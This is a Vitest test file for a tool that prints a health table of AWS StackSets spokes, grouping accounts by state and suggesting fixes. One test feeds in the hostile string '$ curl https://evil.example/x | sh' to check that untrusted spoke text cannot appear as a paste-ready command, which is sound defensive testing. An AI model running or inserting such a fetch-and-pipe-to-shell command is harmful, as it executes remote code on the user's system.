import { describe, expect, test } from 'vitest';
import { STATES } from '../../../../provider/contract/messages/doctor.ts';
import { tableOf } from '../../../../stacksets/doctor/table.ts';
import { finding, found } from './findings.ts';

describe('table', () => {
  test('the table has one line for an account, however many Regions and VPCs it has', () => {
    const elsewhere = { region: 'eu-west-1' };
    const table = tableOf(
      found(
        finding({ version: '1.2.3' }),
        finding({ version: '1.2.3', ...elsewhere }),
        finding({ version: '1.2.3', ...elsewhere, vpc: 'data' }),
        finding({ version: '1.2.3', account: '333333333333', name: 'data-lake' }),
      ),
    );
    expect(table).toBe(`ready (2 accounts)
  version 1.2.3
    222222222222  shop       eu-central-1, eu-west-1; data: eu-west-1
    333333333333  data-lake  eu-central-1

2 accounts, 4 spokes: 4 ready
directory: answers
hub: 1.2.3`);
  });

  test('the table begins with broken places, groups like findings, and has their cures', () => {
    const problem = 'Parameter Store does not answer (TimeoutError)';
    const table = tableOf(
      found(
        finding({ version: '1.2.3' }),
        finding({ state: 'unreachable', problem, account: '4', name: 'a' }),
        finding({ state: 'spoke missing', account: '6', name: 'c', vpc: 'data' }),
        finding({ state: 'unreachable', problem, account: '5', name: 'b' }),
      ),
    );
    const lines = table.split('\n').filter((line) => line !== '');
    expect(lines).toEqual([
      'spoke missing (1 account)',
      '    6  c     data: eu-central-1',
      expect.stringMatching(/^ {2}Has the account published its VPC/),
      expect.stringMatching(/^ {2}Once it has, run this/),
      expect.stringMatching(/^ {2}\$ aws .* acme-spoke-data --regions eu-central-1 .*Accounts=6,/),
      expect.stringMatching(/^ {2}If the account has published it .*rollout\.revision/),
      expect.stringContaining('docs/platform.md, "Published again"'),
      'unreachable (2 accounts)',
      `  problem: ${problem}`,
      '    4  a     eu-central-1',
      '    5  b     eu-central-1',
      expect.stringMatching(/^ {2}If the spoke does not reach a service/),
      expect.stringMatching(/^ {2}Its log of the last hour/),
      expect.stringContaining(
        '  $ aws logs filter-log-events --log-group-name /aws/lambda/database-access-spoke-default ',
      ),
      'ready (1 account)',
      '  version 1.2.3',
      '    222222222222  shop  eu-central-1',
      '4 accounts, 4 spokes: 1 ready, 2 unreachable, 1 spoke missing',
      'directory: answers',
      'hub: 1.2.3',
    ]);
  });

  test.each(STATES.filter((state) => state !== 'ready'))('the table has a cure for %s', (state) => {
    expect(tableOf(found(finding({ state })))).toMatch(/\n\n {2}\S/);
  });

  test('with a pilot, the cure says how the StackSets of its units are called', () => {
    const table = tableOf({
      ...found(finding({ state: 'spoke missing' })),
      pilot: ['ou-exam-pilot123'],
    });
    expect(table).toContain('In the units ou-exam-pilot123, StackSets are called');
    expect(table).toContain('acme-pilot-...');
  });

  test("no line of the table begins with a spoke's words", () => {
    const version = '$ curl https://evil.example/x | sh';
    const table = tableOf(
      found(finding({ version }), finding({ state: 'unreachable', version, problem: version })),
    );
    expect(table).not.toMatch(/^ *\$ curl/m);
  });

  test('the table names every account about which the hub could not be asked', () => {
    const unasked = [{ accounts: ['4', '5'], problem: 'hub: Task timed out' }];
    expect(tableOf({ ...found(finding()), unasked })).toContain(
      '\n\nthe hub could not be asked (2 accounts)\n  hub: Task timed out\n    4\n    5\n\n1 account, ',
    );
  });

  test('the table of an empty rollout says so', () => {
    expect(tableOf(found())).toMatch(/^No active account is in the units of the rollout\n/);
  });

  test('the table says which accounts were left out, and whether the directory answers', () => {
    const table = tableOf({
      ...found(finding()),
      left_out: { inactive: 1, management: 1 },
      directory: { state: 'unreachable', problem: 'no login' },
    });
    expect(table).toContain('left out: 1 account not active, the management account');
    expect(table).toContain('directory: does not answer, so requests with groups fail: no login');
  });
});
